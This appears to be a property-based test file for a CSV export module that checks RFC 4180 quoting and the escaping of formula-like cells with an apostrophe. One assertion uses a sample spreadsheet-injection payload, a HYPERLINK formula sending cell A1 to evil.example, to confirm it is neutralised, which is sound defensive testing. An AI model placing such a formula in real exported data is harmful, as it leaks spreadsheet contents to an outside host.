// Tests for src/formats/csv.ts: any field text survives RFC 4180 quoting (a formula-like one with
// a leading apostrophe, so a spreadsheet never runs it), and grids and solutions are spelled so
// that a cell never needs quotes.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvGrid, csvSolution } from '../../src/formats/csv.js';

/** Read one RFC 4180 record (no line end) back into its fields. */
function readRecord(line: string): string[] {
  const fields: string[] = [];
  let i = 0;
  for (;;) {
    let value = '';
    if (line[i] === '"') {
      i++;
      for (;;) {
        const q = line.indexOf('"', i);
        if (q < 0) throw new Error('unclosed quote');
        value += line.slice(i, q);
        if (line[q + 1] === '"') {
          value += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
    } else {
      const c = line.indexOf(',', i);
      const end = c < 0 ? line.length : c;
      value = line.slice(i, end);
      i = end;
    }
    fields.push(value);
    if (i >= line.length) return fields;
    expect(line[i]).toBe(',');
    i++;
  }
}

const FORMULA = /^[=+\-@\t\r]/;

describe('csvField', () => {
  it('quotes exactly when needed, and every list of fields reads back as it was, formulas behind an apostrophe', () => {
    const unit = fc.constantFrom('a', ',', '"', '\r', '\n', ' ', 'é', '=', '+', '-', '@', '\t', '1');
    fc.assert(
      fc.property(fc.array(fc.string({ unit }), { minLength: 1, maxLength: 6 }), (values) => {
        const line = values.map(csvField).join(',');
        expect(readRecord(line)).toEqual(values.map((v) => (FORMULA.test(v) ? `'${v}` : v)));
        for (const v of values) expect(csvField(v) === v).toBe(!/[",\r\n]/.test(v) && !FORMULA.test(v));
      }),
    );
  });

  it('never leaves a cell that a spreadsheet would read as a formula', () => {
    fc.assert(
      fc.property(fc.string(), (v) => {
        const cell = csvField(v);
        const shown = cell.startsWith('"') ? cell.slice(1) : cell;
        expect(shown).not.toMatch(FORMULA);
      }),
    );
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"singles")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""singles"")"',
    );
  });
});

describe('csvGrid and csvSolution', () => {
  it('never need quotes and read back by splitting', () => {
    const cells = fc.array(fc.array(fc.nat(200), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(cells, cells, (grid, dominoes) => {
        const g = csvGrid(grid);
        const s = csvSolution(dominoes);
        expect(csvField(g)).toBe(g);
        expect(csvField(s)).toBe(s);
        expect(g.split('/').map((r) => r.split(' ').map(Number))).toEqual(grid);
        expect(s.split(';').map((d) => d.split(' ').map(Number))).toEqual(dominoes);
      }),
    );
  });
});
